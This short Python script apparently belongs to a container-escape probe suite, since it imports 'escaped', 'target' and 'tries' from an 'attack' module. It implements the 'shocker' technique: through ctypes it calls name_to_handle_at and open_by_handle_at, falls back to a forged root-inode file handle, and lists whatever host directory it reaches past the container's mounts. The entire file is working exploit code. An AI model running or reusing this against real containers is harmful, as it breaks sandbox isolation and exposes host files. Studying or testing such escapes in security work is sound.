"""Opens the course by a file handle instead of a path, past every mount ("shocker")."""

import ctypes
import os
import struct

from attack import escaped, target, tries

libc = ctypes.CDLL(None, use_errno=True)
AT_FDCWD, O_DIRECTORY = -100, 0o200000
mount = ctypes.c_int()
handle = ctypes.create_string_buffer(struct.pack("Ii", 128, 0) + bytes(128))
ROOT_INODE = struct.pack("IiII", 8, 1, 2, 0)


def by_handle(content):
    folder = libc.open_by_handle_at(os.open(".", os.O_RDONLY), content, O_DIRECTORY)
    if folder >= 0:
        escaped(os.listdir(folder))


tries(lambda: libc.name_to_handle_at(AT_FDCWD, target.course.encode(), handle, ctypes.byref(mount), 0) == 0
      and by_handle(handle), lambda: by_handle(ctypes.create_string_buffer(ROOT_INODE)))
